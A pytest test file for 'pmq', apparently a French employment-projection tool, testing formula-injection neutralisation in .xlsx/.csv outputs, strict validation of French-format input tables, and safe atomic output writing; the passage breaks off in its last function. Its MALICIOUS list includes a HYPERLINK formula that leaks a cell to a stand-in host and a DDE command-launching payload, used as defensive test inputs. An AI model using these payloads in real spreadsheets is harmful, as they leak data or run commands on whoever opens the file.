"""Deliverables safe to share, nothing of the user's ever deleted, user tables read as French
users write them.

* formula injection: no text cell pmq writes to .xlsx or .csv is a formula (OWASP rule);
* outputs replace only what pmq wrote (marker ``.pmq-output``); files never replace folders;
* temporary folders go on failure and Ctrl-C, and what a killed run left is removed next time;
* user tables: « ; », decimal commas, Windows-1252, byte-order marks are read right, or refused
  with a message naming the file, the column and the rows — never misread.
"""
from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
import warnings
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pmq.cli import main
from pmq.errors import InputError, OutputError, OutputNotice
from pmq.outputs import (FILES_RECORD, MARKER, atomic_file, clean_stale, neutralise, neutralise_csv, safe_text, write_atomically,
                         written_by_pmq)
from pmq.export import read_excel_tables, to_csv, to_excel


@pytest.fixture(autouse=True)
def _interactive_interrupts():
    """A test run started in the background by a script (`cmd &`) ignores SIGINT, as POSIX shells
    ask, and so would its subprocesses: give these tests the interactive default."""
    old = signal.getsignal(signal.SIGINT)
    signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, old)


TEMPLATES = Path(__file__).resolve().parents[1] / "pmq" / "data" / "templates"
HYPERLINK = '=HYPERLINK("http://x?leak="&A1,"clic")'
#: Labels that a spreadsheet would evaluate as formulas (or as an error literal).
MALICIOUS = [HYPERLINK, "+1+1", "@SUM(A1)", "-2+3", "\tTAB", "\rCR", "=cmd|' /C calc'!A0", "#N/A"]


# ----------------------------------------------------------------------------------- helpers
def _tiny() -> dict[str, pd.DataFrame]:
    """The shipped templates: one territory × one métier, ages 15–74 (a valid user baseline)."""
    return {n: pd.read_csv(TEMPLATES / f"{n}.csv", dtype={"territory": str})
            for n in ("employment", "hazards", "flows", "tension")}


def _write_folder(folder: Path, tables: dict[str, pd.DataFrame], **kw) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for n, df in tables.items():
        df.to_csv(folder / f"{n}.csv", index=False, **kw)
    return folder


def _snapshot(folder: Path) -> dict:
    return {str(p.relative_to(folder)): (p.read_bytes() if p.is_file() else None)
            for p in sorted(folder.rglob("*"))}


def _cli(argv, capsys):
    code = main([str(a) for a in argv])
    cap = capsys.readouterr()
    return code, cap.out, cap.err


def _no_formula(path: Path, allowed=()) -> list:
    """Every cell of every sheet: (sheet, coordinate, value) of the formulas found."""
    from openpyxl import load_workbook
    found = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")):
                    if c.value not in allowed:
                        found.append((ws.title, c.coordinate, c.value))
    return found


def _temporaries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".tmp-" in p.name or ".ens-" in p.name)


# ------------------------------------------------------------------------- formula injection
@pytest.mark.parametrize("label", MALICIOUS, ids=["hyperlink", "plus", "at", "minus", "tab", "cr", "dde", "error"])
def test_xlsx_text_cells_are_never_formulas(label, tmp_path):
    table = pd.DataFrame({"territory": [label, "13"], "territory_name": [label, "Bouches-du-Rhône"],
                          "net_creation": [-2.5, 3.0], "n": [-1, 2]})
    readme = [["scénario", "x", label], ["source", label, "fichier"]]
    path = to_excel({"regions": table}, tmp_path / "t.xlsx", readme=readme)
    assert _no_formula(path) == []
    from openpyxl import load_workbook
    wb = load_workbook(path)
    ws = wb["Régions"]
    shown = "'" + label.replace("\r", "\n")          # XML reads a carriage return back as a line feed
    assert ws["A2"].value == shown and ws["B2"].value == shown and ws["A2"].data_type == "s"
    assert ws["C2"].value == -2.5 and ws["C2"].data_type == "n"          # a negative number stays a number
    assert ws["D2"].value == -1 and ws["D2"].data_type == "n"
    assert ws["A3"].value == "13" and ws["A3"].data_type == "s"            # codes stay text
    readme_values = [c.value for row in wb["README"].iter_rows() for c in row]
    assert readme_values.count(shown) == 2
    back = read_excel_tables(path)["regions"]           # French headers, read back under pmq's names
    assert back["territory"].tolist() == [shown, "13"] and back["net_creation"].tolist() == [-2.5, 3.0]


@pytest.mark.parametrize("label", MALICIOUS, ids=["hyperlink", "plus", "at", "minus", "tab", "cr", "dde", "error"])
def test_csv_text_fields_are_never_formulas(label, tmp_path):
    table = pd.DataFrame({"territory_name": [label, "Nord"], "net_creation": [-2.5, 3.0]})
    to_csv({"regions": table}, tmp_path / "csv")
    text = (tmp_path / "csv" / "regions.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    # a carriage return becomes a line feed, which the CSV writer quotes (a bare CR would cut the row)
    # persons to 3 decimals (tests/test_tables_consistency.py)
    assert rows[1] == ["'" + label.replace("\r", "\n"), "-2.500"] and rows[2] == ["Nord", "3.000"]
    back = pd.read_csv(tmp_path / "csv" / "regions.csv", encoding="utf-8-sig", dtype={"territory_name": str})
    assert back["net_creation"].dtype == float and back["net_creation"].iloc[0] == -2.5


def test_safe_text_keeps_numbers_and_catches_separator_tricks():
    for v in (-2.5, 3, np.nan, None, True, "-0.25", "+12,5", "1e-3", "-7 %", "13", "2019–2030", "Nord-Pas-de-Calais"):
        assert safe_text(v) is v or safe_text(v) == v
    assert safe_text("-") == "'-" and safe_text("=") == "'="
    # French Excel splits a comma-separated file on « ; »: a formula after it is quoted too
    assert safe_text('Nord;=HYPERLINK("x")', csv=True) == "Nord;'=HYPERLINK(\"x\")"
    assert safe_text("a\x00b\x1bc") == "a\ufffdb\ufffdc"                  # what an .xlsx cannot hold
    df = neutralise(pd.DataFrame({"=x": ["+1+1", "ok"], "v": [-1.0, 2.0]}))
    assert list(df.columns) == ["'=x", "v"] and df["v"].dtype == float and df.iloc[0, 0] == "'+1+1"


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@#\t\r\n,;\"'/!?NAVLUERFDIe0159.% a\x00\x1b\ufffe\ud800é")),
               max_size=12))
def test_csv_fields_left_unread_are_those_safe_text_keeps(field):
    """neutralise_csv only passes through safe_text the fields that _MAY_CHANGE finds (speed): any
    other field is one safe_text would return unchanged."""
    from pmq.outputs import _MAY_CHANGE
    if _MAY_CHANGE.search(field) is None:
        assert safe_text(field, csv=True) == field


def test_control_characters_at_write_time_never_crash_the_workbook(tmp_path):
    # defence in depth: a title from a scenario file with control characters
    readme = [["scénario", "x", "Titre\x07avec\x1bcontrôle"], ["hash", "=1+1\x00"]]
    table = pd.DataFrame({"territory_name": ["a\x0bb"], "v": [1.0]})
    path = to_excel({"t": table}, tmp_path / "t.xlsx", readme=readme)
    assert _no_formula(path) == []
    back = read_excel_tables(path)["t"]
    assert back["territory_name"].iloc[0] == "a\ufffdb"


def test_any_csv_moved_into_place_is_neutralised(tmp_path):
    """cli.py writes its CSVs with pandas directly: write_atomically passes every .csv through
    neutralise_csv whatever wrote it."""
    df = pd.DataFrame({"territory_name": [HYPERLINK, "Nord"], "rate": ["-0.012345", "0.5"], "x": [-1, 2]})
    write_atomically(tmp_path / "out", {"summary.csv": lambda p: df.to_csv(p, index=False)})
    rows = list(csv.reader(open(tmp_path / "out" / "summary.csv", newline="", encoding="utf-8-sig")))
    assert rows[1] == ["'" + HYPERLINK, "-0.012345", "-1"]
    assert (tmp_path / "out" / "summary.csv").read_bytes().startswith(b"\xef\xbb\xbf")      # a BOM, added
    assert neutralise_csv(tmp_path / "out" / "summary.csv") is False        # idempotent: nothing left to do


@pytest.mark.parametrize("fmt", ["summary.csv", "t.xlsx", "csv", "t.iamc.csv"])
def test_cli_outputs_of_malicious_user_labels(fmt, tmp_path, capsys):
    t = _tiny()
    t["employment"]["territory_name"] = HYPERLINK
    t["flows"]["net_creation"] = -250              # negative numbers must stay numbers
    data = _write_folder(tmp_path / "data", t)
    out = tmp_path / fmt
    if fmt == "summary.csv":
        out = tmp_path / "run"
        code, _, err = _cli(["run", "reference", "--data", data, "--horizon", 2, "--out", out], capsys)
    else:
        code, _, err = _cli(["export", "reference", "--data", data, "--horizon", 2, "--out", out], capsys)
    assert code == 0, err
    if fmt == "t.xlsx":
        assert _no_formula(out) == []
        regions = read_excel_tables(out)["regions"]
        assert ("'" + HYPERLINK) in set(regions["territory_name"])
        assert (regions["net_creation"] < 0).any() and regions["net_creation"].dtype == float
        return
    files = [out / "summary.csv"] if fmt == "summary.csv" else sorted(out.glob("*.csv")) if fmt == "csv" else [out]
    seen = False
    for f in files:
        for row in csv.reader(open(f, newline="", encoding="utf-8-sig")):
            for field in row:
                assert not field.startswith(("=", "+", "@", "\t", "\r")), (f.name, field)
                if field.startswith("-"):
                    float(field)                       # only numbers start with « - »
                seen |= field == "'" + HYPERLINK
    assert seen
    if fmt == "summary.csv":
        s = pd.read_csv(out / "summary.csv")
        assert s["net_creation"].dtype == float and (s["net_creation"] < 0).all()


# ------------------------------------------------------------------- user tables: refused
def _bad(kind: str, folder: Path) -> tuple[str, list[str]]:
    """Write the data folder with one defect; return (file at fault, words the message must hold)."""
    t = _tiny()
    e, h, f = t["employment"], t["hazards"], t["flows"]
    name, must = "employment.csv", []
    raw = None
    if kind == "bell_in_name":
        e.loc[3, "territory_name"] = "Bouches\x07du-Rhône"
        must = ["territory_name", "U+0007", "\\x07", "contrôle"]
    elif kind == "escape_in_code":
        e["metier"] = "T4Z"
        e.loc[5, "metier"] = "T4\x1bZ"
        must = ["metier", "U+001B", "ligne"]
    elif kind == "zero_width_code":
        f["territory"] = "13\u200b"
        name, must = "flows.csv", ["territory", "U+200B"]
    elif kind == "bidi_override":
        e["territory_name"] = "Bouches\u202eenôhR"
        must = ["territory_name", "U+202E"]
    elif kind == "c1_control":
        e["territory_name"] = "Bouches\x85du-Rhône"
        must = ["territory_name", "U+0085"]
    elif kind == "negative_employment":
        e.loc[4, "employment"] = -3
        must = ["employment", "emploi négatif", "-3"]
    elif kind == "nan_employment":
        e["employment"] = e["employment"].astype(float)
        e.loc[6, "employment"] = np.nan
        must = ["employment", "valeur manquante"]
    elif kind == "na_marker_flows":
        f["young_entrants"] = "NA"
        name, must = "flows.csv", ["young_entrants", "valeur manquante"]
    elif kind == "infinite":
        h["hazard"] = h["hazard"].astype(object)
        h.loc[2, "hazard"] = "inf"
        name, must = "hazards.csv", ["hazard", "valeurs infinies"]
    elif kind == "duplicate_rows":
        t["employment"] = pd.concat([e, e.iloc[[7]]])
        must = ["lignes en double", "territory, metier, age"]
    elif kind == "age_gap":
        t["employment"] = e[e["age"] != 40]
        must = ["age", "âges manquants : 40"]
    elif kind == "hazard_hole":
        t["hazards"] = h[h["age"] != 33]
        name, must = "hazards.csv", ["age"]
    elif kind == "negative_young_entrants":
        f["young_entrants"] = -5
        name, must = "flows.csv", ["young_entrants", "jeunes débutants négatifs"]
    elif kind == "hazard_above_one":
        h.loc[10, "hazard"] = 1.5
        name, must = "hazards.csv", ["hazard", "1.5"]
    elif kind == "non_whole_age":
        e["age"] = e["age"].astype(float)
        e.loc[0, "age"] = 15.5
        must = ["age", "nombres entiers"]
    elif kind == "percent_sign":
        h["hazard"] = h["hazard"].astype(str) + " %"
        name, must = "hazards.csv", ["hazard", "valeur non numérique", "%"]
    elif kind == "two_names_one_code":
        e.loc[e["age"] > 50, "territory_name"] = "Marseille"
        must = ["territory_name", "Marseille", "Bouches-du-Rhône", "plusieurs"]
    elif kind == "duplicated_header":
        raw = (TEMPLATES / "employment.csv").read_text().replace("territory_name", "age", 1)
        must = ["colonne en double", "age"]
    elif kind == "mixed_decimal_marks":
        raw = (TEMPLATES / "employment.csv").read_text().replace(",", ";")
        lines = raw.splitlines()
        lines[2] = lines[2].replace(";100;", ";100,5;")
        lines[3] = lines[3].replace(";100;", ";100.5;")
        raw = "\n".join(lines) + "\n"
        must = ["employment", "mélange points et virgules décimales", "100,5"]
    elif kind == "ambiguous_thousands":
        e["employment"] = e["employment"].astype(str)
        e.loc[2, "employment"] = "1,500"             # quoted in a comma-separated file: 1.5 or 1500?
        must = ["employment", "1,500", "virgule décimale", "milliers"]
    elif kind == "bad_thousands_grouping":
        raw = (TEMPLATES / "employment.csv").read_text().replace(",", ";").replace(";100;", ";1 00;", 1)
        must = ["employment", "valeur non numérique", "1 00"]
    elif kind == "ambiguous_separator":
        raw = (TEMPLATES / "employment.csv").read_text().replace(",", ";", 2)
        must = ["séparateur", "en-tête"]
    elif kind == "nul_bytes":
        raw = b"territory,metier\x00,age\n"
        must = ["NUL"]
    elif kind == "xlsx_named_csv":
        e.to_excel(folder / "e.xlsx", index=False)
        raw = (folder / "e.xlsx").read_bytes()
        (folder / "e.xlsx").unlink()
        must = ["zip", ".xlsx"]
    elif kind == "mac_roman":
        raw = (TEMPLATES / "employment.csv").read_text(encoding="utf-8").encode("mac_roman")
        must = ["encodage", "CSV UTF-8"]
    elif kind == "broken_utf8_after_bom":
        raw = b"\xef\xbb\xbf" + (TEMPLATES / "employment.csv").read_bytes().replace("ô".encode(), b"\xf4")
        must = ["marque d'ordre d'octets", "UTF-8"]
    elif kind == "empty_file":
        raw = b""
        must = ["vide"]
    elif kind == "header_only":
        raw = "territory,metier,age,employment\n"
        must = ["aucune ligne"]
    elif kind == "ragged_row":
        raw = (TEMPLATES / "employment.csv").read_text() + "13,T4Z,75,100,2021,Bouches-du-Rhône,extra\n"
        must = ["plus de champs que les", "ligne", "62"]
    elif kind == "unclosed_quote":
        raw = (TEMPLATES / "employment.csv").read_text() + '13,T4Z,75,100,2021,"Bouches\n'
        must = ["impossible de lire"]
    elif kind == "boolean_cells":
        e["employment"] = e["employment"].astype(object)
        e.loc[1, "employment"] = True
        t.pop("employment")
        e.to_excel(folder / "employment.xlsx", index=False)
        name, must = "employment.xlsx", ["employment", "TRUE/FALSE"]
    elif kind == "date_cells":
        e["age"] = e["age"].astype(object)
        e.loc[1, "age"] = pd.Timestamp("2021-01-16")
        t.pop("employment")
        e.to_excel(folder / "employment.xlsx", index=False)
        name, must = "employment.xlsx", ["age", "date"]
    elif kind == "invisible_in_excel":
        e.loc[2, "territory"] = "13\u200b"
        t.pop("employment")
        e.to_excel(folder / "employment.xlsx", index=False)
        name, must = "employment.xlsx", ["territory", "U+200B"]
    else:  # pragma: no cover
        raise AssertionError(kind)
    folder.mkdir(parents=True, exist_ok=True)
    for n, df in t.items():
        if df is None:
            continue
        if n == "employment" and raw is not None:
            (folder / "employment.csv").write_bytes(raw if isinstance(raw, bytes) else raw.encode("utf-8"))
        else:
            df.to_csv(folder / f"{n}.csv", index=False)
    return name, must


BAD_KINDS = ["bell_in_name", "escape_in_code", "zero_width_code", "bidi_override", "c1_control",
             "negative_employment", "nan_employment", "na_marker_flows", "infinite", "duplicate_rows", "age_gap",
             "hazard_hole", "negative_young_entrants", "hazard_above_one", "non_whole_age", "percent_sign",
             "two_names_one_code", "duplicated_header", "mixed_decimal_marks", "ambiguous_thousands",
             "bad_thousands_grouping", "ambiguous_separator", "nul_bytes", "xlsx_named_csv", "mac_roman",
             "broken_utf8_after_bom", "empty_file", "header_only", "ragged_row", "unclosed_quote",
             "boolean_cells", "date_cells", "invisible_in_excel"]


@pytest.mark.parametrize("kind", BAD_KINDS)
def test_bad_user_tables_are_refused_by_the_cli(kind, tmp_path, capsys):
    data = tmp_path / "data"
    data.mkdir()
    name, must = _bad(kind, data)
    before = _snapshot(data)
    out = tmp_path / "out"
    code, _, err = _cli(["run", "reference", "--data", data, "--horizon", 2, "--out", out], capsys)
    assert code == 2, err
    assert "Traceback" not in err and err.startswith("pmq : erreur :")
    assert name in err, err
    for word in must:
        assert word in err, (word, err)
    assert "\x07" not in err and "\x1b" not in err          # never echoed raw to the terminal
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["data"]
    assert _snapshot(data) == before


# ------------------------------------------------------------------- user tables: accepted
def _french(df: pd.DataFrame, sep=";") -> str:
    return df.to_csv(index=False, sep=sep, decimal=",")


GOOD = {
    # kind: (how each table is written, what the test checks)
    "semicolon_decimal_comma_cp1252": lambda df: _french(df).encode("cp1252"),
    "semicolon_utf8_bom_crlf": lambda df: b"\xef\xbb\xbf" + _french(df).replace("\n", "\r\n").encode("utf-8"),
    "utf16_tab_excel_unicode_text": lambda df: _french(df, sep="\t").encode("utf-16"),
    "latin1": lambda df: df.to_csv(index=False).encode("latin-1"),
    "comma_utf8_plain": lambda df: df.to_csv(index=False).encode("utf-8"),
}


@pytest.mark.parametrize("kind", list(GOOD))
def test_french_csv_files_are_read_right(kind, tmp_path):
    import pmq
    t = _tiny()
    t["employment"]["employment"] = t["employment"]["employment"] + 0.25 + np.arange(len(t["employment"])) * 1000
    t["hazards"]["hazard"] = t["hazards"]["hazard"].astype(float)
    t["flows"]["net_creation"] = -250.5
    ref = pmq.load_user_baseline(*t.values())
    for n, df in t.items():
        (tmp_path / f"{n}.csv").write_bytes(GOOD[kind](df))
    b = pmq.load_user_baseline(*(tmp_path / f"{n}.csv" for n in t))
    np.testing.assert_array_equal(b["employment"].values, ref["employment"].values)
    np.testing.assert_array_equal(b["hazard"].values, ref["hazard"].values)
    assert float(b["published_net_creation"].sum()) == -250.5
    assert b.territory_name.values.tolist() == ["Bouches-du-Rhône"]


def test_french_number_forms_are_read_without_guessing(tmp_path):
    """Thousands spaces (also no-break), « − », 1,500 in a « ; » file or beside other decimal
    commas, header case, empty rows and empty unnamed columns left by spreadsheets, « NA » and
    « 01 » as territory codes, a formula-like label (kept: neutralised when written)."""
    import pmq
    t = _tiny()
    e = t["employment"].astype({"employment": str})
    e["territory"] = "01"
    e["territory_name"] = "=1+1"
    e.loc[0, "employment"] = "1\u202f234,5"
    e.loc[1, "employment"] = "1 500"
    e.loc[2, "employment"] = "1,500"
    e.loc[3, "employment"] = "2\u00a0000"
    text = e.rename(columns={"territory": "Territory"}).to_csv(index=False, sep=";")
    text = text.replace("\n", ";\n", 1).replace("\n", "\n;;;;;;\n", 2)       # empty column and rows
    (tmp_path / "employment.csv").write_text(text, encoding="utf-8")
    f = t["flows"].assign(territory="01", net_creation="\u2212250")
    f.to_csv(tmp_path / "flows.csv", index=False, sep=";")
    b = pmq.load_user_baseline(tmp_path / "employment.csv", t["hazards"], tmp_path / "flows.csv")
    emp = b["employment"].sel(territory="01", metier="T4Z").values
    assert emp[:4].tolist() == [1234.5, 1500.0, 1.5, 2000.0]
    assert float(b["published_net_creation"].sum()) == -250.0
    assert b.territory_name.values.tolist() == ["=1+1"]
    na = t["employment"].assign(territory="NA")                 # Nouvelle-Aquitaine's usual abbreviation
    na.to_csv(tmp_path / "na.csv", index=False)
    fl = t["flows"].assign(territory="NA")
    fl.to_csv(tmp_path / "na_flows.csv", index=False)
    assert pmq.load_user_baseline(tmp_path / "na.csv", t["hazards"], tmp_path / "na_flows.csv") \
        .territory.values.tolist() == ["NA"]


def test_old_spreadsheet_formats_say_what_to_do(tmp_path):
    import pmq
    t = _tiny()
    for suffix in (".xls", ".ods"):
        (tmp_path / f"employment{suffix}").write_bytes(b"\xd0\xcf\x11\xe0")
        with pytest.raises(InputError, match="enregistrez le tableau en .xlsx") as info:
            pmq.load_user_baseline(tmp_path / f"employment{suffix}", t["hazards"], t["flows"])
        assert f"employment{suffix}" in str(info.value)


def test_dataframe_inputs_get_the_same_checks():
    import pmq
    t = _tiny()
    e = t["employment"].astype({"employment": object})
    e.loc[0, "employment"] = "1,5"
    b = pmq.load_user_baseline(e, t["hazards"], t["flows"])      # unambiguous decimal comma
    assert b["employment"].values.ravel()[0] == 1.5
    e.loc[0, "employment"] = "1,500"                              # nothing tells 1.5 from 1500
    with pytest.raises(InputError, match="peut se lire avec une virgule décimale") as info:
        pmq.load_user_baseline(e, t["hazards"], t["flows"])
    assert "tableau employment" in str(info.value) and "colonne 'employment'" in str(info.value)
    e = t["employment"].assign(metier_label="Agents\x00d'entretien")
    with pytest.raises(InputError, match="U\\+0000"):
        pmq.load_user_baseline(e, t["hazards"], t["flows"])


# ----------------------------------------------------------------- outputs: never the user's
def _figures(p: Path):
    p.mkdir()
    (p / "01_waterfall.png").write_bytes(b"png")


def _file(p: Path):
    p.write_text("new")


CONFLICTS = {
    # kind: (what is in the way, writers, words of the message)
    "user_folder_named_like_a_folder_output": (lambda o: ((o / "ensemble.zarr").mkdir(),
                                                          (o / "ensemble.zarr" / "notes.txt").write_text("mine")),
                                               {"ensemble.zarr": _figures}, ["n'a pas écrit", MARKER]),
    "user_notes_in_an_old_figures_folder": (lambda o: ((o / "figures").mkdir(),
                                                       (o / "figures" / "01_waterfall.png").write_bytes(b"old"),
                                                       (o / "figures" / "notes.txt").write_text("mine")),
                                            {"figures": _figures}, ["n'a pas écrit"]),
    "folder_where_a_file_goes": (lambda o: (o / "accounts.nc").mkdir(), {"accounts.nc": _file},
                                 ["dossier là où pmq écrit un fichier"]),
    # a file of the user's where a folder output goes: refused before anything is written (pmq did not write it)
    "file_where_a_folder_goes": (lambda o: (o / "figures").write_text("mine"), {"figures": _figures},
                                 ["ne l'a pas écrit", FILES_RECORD]),
    # a file of the user's named like a file output (summary.csv in their own folder)
    "user_file_named_like_a_file_output": (lambda o: (o / "summary.csv").write_text("mes notes"),
                                           {"summary.csv": _file}, ["ne l'a pas écrit", FILES_RECORD]),
    "symlink_where_a_file_goes": (lambda o: (o / "summary.csv").symlink_to(o / "elsewhere.csv"),
                                  {"summary.csv": _file}, ["lien symbolique"]),
}


@pytest.mark.parametrize("kind", list(CONFLICTS))
def test_outputs_never_replace_what_pmq_did_not_write(kind, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "elsewhere.csv").write_text("the link's target")
    (out / "keep.txt").write_text("mine")
    setup, writers, words = CONFLICTS[kind]
    setup(out)
    before = _snapshot(out)
    with pytest.raises(OutputError) as info:
        write_atomically(out, {"report.html": _file, **writers})
    msg = str(info.value)
    assert str(out) in msg and all(w in msg for w in words), msg
    assert _snapshot(out) == before and _temporaries(tmp_path) == []
    assert isinstance(info.value, InputError)                          # the CLI exits with 2


def test_cli_refuses_a_folder_in_place_of_accounts_nc(tmp_path, capsys):
    data = _write_folder(tmp_path / "data", _tiny())
    out = tmp_path / "run"
    (out / "accounts.nc").mkdir(parents=True)
    (out / "accounts.nc" / "precious.txt").write_text("keep me")
    code, _, err = _cli(["run", "reference", "--data", data, "--horizon", 2, "--out", out], capsys)
    assert code == 2 and "accounts.nc" in err and "dossier" in err and "Traceback" not in err
    assert (out / "accounts.nc" / "precious.txt").read_text() == "keep me"
    assert sorted(p.name for p in out.iterdir()) == ["accounts.nc"] and _temporaries(tmp_path) == []
    (tmp_path / "file").write_text("mine")                                  # --out is a file
    code, _, err = _cli(["run", "reference", "--data", data, "--horizon", 2, "--out", tmp_path / "file"], capsys)
    assert code == 2 and "n'est pas un dossier" in err and (tmp_path / "file").read_text() == "mine"
    (tmp_path / "x.nc").mkdir()                                             # export to a folder named .nc
    code, _, err = _cli(["export", "reference", "--data", data, "--horizon", 2, "--out", tmp_path / "x.nc"], capsys)
    assert code == 2 and "x.nc" in err and "dossier" in err and list((tmp_path / "x.nc").iterdir()) == []


def test_cli_ensemble_never_destroys_a_user_folder_named_ensemble_zarr(tmp_path, capsys):
    """The bug this fixes: a folder of the user's named ensemble.zarr inside --out was deleted on success."""
    data = _write_folder(tmp_path / "data", _tiny())
    out = tmp_path / "res"
    (out / "ensemble.zarr").mkdir(parents=True)
    (out / "ensemble.zarr" / "notes.txt").write_text("mine")
    code, _, err = _cli(["run", "reference_incertain", "--data", data, "--draws", 2, "--chunk", 2, "--horizon", 1,
                         "--out", out], capsys)
    assert code == 2 and "ensemble.zarr" in err and "n'a pas écrit" in err and "Traceback" not in err
    assert _snapshot(out) == {"ensemble.zarr": None, "ensemble.zarr/notes.txt": b"mine"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "res"]          # no temporary left


def test_pmq_replaces_its_own_folders_and_marks_them(tmp_path):
    out = tmp_path / "out"
    write_atomically(out, {"figures": _figures, "summary.csv": _file})
    assert (out / "figures" / MARKER).exists() and written_by_pmq(out / "figures")
    # no marker in --out (it is not pmq's folder), the record of the files pmq wrote there
    assert sorted(p.name for p in out.iterdir()) == [FILES_RECORD, "figures", "summary.csv"]
    (out / "keep.txt").write_text("mine")
    write_atomically(out, {"figures": lambda p: (p.mkdir(), (p / "02_pyramid.svg").write_text("s"))})
    assert sorted(p.name for p in (out / "figures").iterdir()) == [MARKER, "02_pyramid.svg"]
    assert (out / "keep.txt").read_text() == "mine" and _temporaries(tmp_path) == _temporaries(out) == []
    # an older pmq's figures folder (no marker, only its NN_name.png/svg files) is recognised
    legacy = tmp_path / "legacy"
    (legacy / "figures").mkdir(parents=True)
    (legacy / "figures" / "01_waterfall.png").write_bytes(b"old")
    write_atomically(legacy, {"figures": _figures})
    assert (legacy / "figures" / "01_waterfall.png").read_bytes() == b"png"


def test_ensemble_stores_are_marked_and_only_pmq_stores_are_replaced(tmp_path):
    import xarray as xr
    from pmq.projection.ensemble import STORED, _check_store_target
    ds = xr.Dataset({k: (("draw", "year"), np.zeros((2, 3), np.float32)) for k in STORED},
                    coords={"draw": [0, 1], "year": [2019, 2020, 2021]})
    legacy = tmp_path / "legacy.zarr"
    ds.to_zarr(legacy, zarr_format=2)
    assert written_by_pmq(legacy)                               # an older pmq's store: pmq's arrays only
    (legacy / "notes.txt").write_text("mine")
    assert not written_by_pmq(legacy)
    with pytest.raises(OutputError, match="ni un stockage zarr écrit par pmq"):
        _check_store_target(legacy)
    other = tmp_path / "other.zarr"                             # someone else's zarr store
    xr.Dataset({"x": ("i", [1.0])}).to_zarr(other, zarr_format=2)
    with pytest.raises(OutputError, match="ni un stockage zarr écrit par pmq"):
        _check_store_target(other)
    from pmq.outputs import replace_folder
    new = tmp_path / "new.zarr"
    ds.to_zarr(new, zarr_format=2)
    replace_folder(new, tmp_path / "e.zarr")
    assert (tmp_path / "e.zarr" / MARKER).exists()
    back = xr.open_zarr(tmp_path / "e.zarr")                    # the marker does not disturb zarr
    assert set(STORED) <= set(back.data_vars)
    back.close()


# -------------------------------------------------------------- failures, Ctrl-C, killed runs
def test_failure_and_ctrl_c_leave_no_temporary_and_the_previous_outputs(tmp_path):
    out = tmp_path / "out"
    write_atomically(out, {"summary.csv": lambda p: p.write_text("v1\n"), "figures": _figures})
    before = _snapshot(out)

    def interrupted(p):
        p.write_text("half")
        raise KeyboardInterrupt

    def failing(p):
        p.mkdir()
        raise RuntimeError("disk full")

    with pytest.raises(KeyboardInterrupt):                      # never swallowed
        write_atomically(out, {"summary.csv": lambda p: p.write_text("v2\n"), "accounts.nc": interrupted})
    with pytest.raises(RuntimeError):
        write_atomically(out, {"summary.csv": lambda p: p.write_text("v2\n"), "figures": failing})
    assert _snapshot(out) == before and _temporaries(tmp_path) == []


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupt_swallowed_by_a_library_still_stops_the_write(sig, tmp_path):
    out = tmp_path / "out"

    def swallowing(p):            # what a C extension's callback may do with a KeyboardInterrupt
        p.write_text("half")
        try:
            os.kill(os.getpid(), sig)
            time.sleep(0.5)
        except KeyboardInterrupt:
            pass

    with pytest.raises(KeyboardInterrupt):
        write_atomically(out, {"accounts.nc": swallowing})
    assert not out.exists() and _temporaries(tmp_path) == []
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler      # handlers given back
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_stale_temporaries_are_removed_and_nothing_else(tmp_path):
    from pmq import outputs as export
    host = export._HOST
    dead = _dead_pid()
    old = time.time() - 3600
    items = {}

    def folder(name, marker=True, mtime=None):
        p = tmp_path / name
        p.mkdir()
        (p / "accounts.nc").write_bytes(b"partial")
        if marker:
            export.write_marker(p, "temporary", "out")
        if mtime:
            os.utime(p, (mtime, mtime))
        items[name] = p
        return p

    folder(f".out.tmp-{dead}-{host}-abcd1234")                       # killed run, marker: removed
    folder(f".out.ens-{dead}-{host}-efgh5678", marker=False, mtime=old)   # killed before its marker, old: removed
    folder(f".out.tmp-{dead}-{host}-ijkl9012", marker=False)          # no marker, newer than us: kept
    folder(f".out.tmp-{os.getppid()}-{host}-mnop3456")               # its process still runs: kept
    folder(f".out.tmp-{dead}-000000-qrst7890", mtime=old)             # another machine's: kept
    folder(".out.tmp-uvwx1234", marker=False, mtime=old)             # an older pmq's look-alike: kept
    folder(".out.tmp-mine", marker=False, mtime=old)                 # the user's: kept, not even named
    (tmp_path / ".out.csv").write_text("mine")
    (tmp_path / f".out.tmp-{dead}-{host}-yzab5678.csv").write_text("partial")   # a file temporary
    os.utime(tmp_path / f".out.tmp-{dead}-{host}-yzab5678.csv", (old, old))
    with pytest.warns(OutputNotice) as notes:
        write_atomically(tmp_path / "out", {"summary.csv": _file})
    left = sorted(p.name for p in tmp_path.iterdir())
    assert left == sorted([".out.csv", ".out.tmp-mine", ".out.tmp-uvwx1234", f".out.tmp-{dead}-000000-qrst7890",
                           f".out.tmp-{dead}-{host}-ijkl9012", f".out.tmp-{os.getppid()}-{host}-mnop3456", "out"])
    text = " ".join(str(n.message) for n in notes)
    assert f".out.tmp-{dead}-{host}-abcd1234" in text and f".out.ens-{dead}-{host}-efgh5678" in text
    assert "laissés en place" in text and ".out.tmp-uvwx1234" in text and ".out.tmp-mine" not in text
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert clean_stale(tmp_path, "elsewhere") == []


# ---------------------------------------------------- the real CLI, interrupted and killed
def _start(out: Path):
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    # to 2050: 84 MB of accounts (written as they are, uncompressed) take long enough to be interrupted
    return subprocess.Popen([sys.executable, "-m", "pmq.cli", "run", "reference", "--out", str(out),
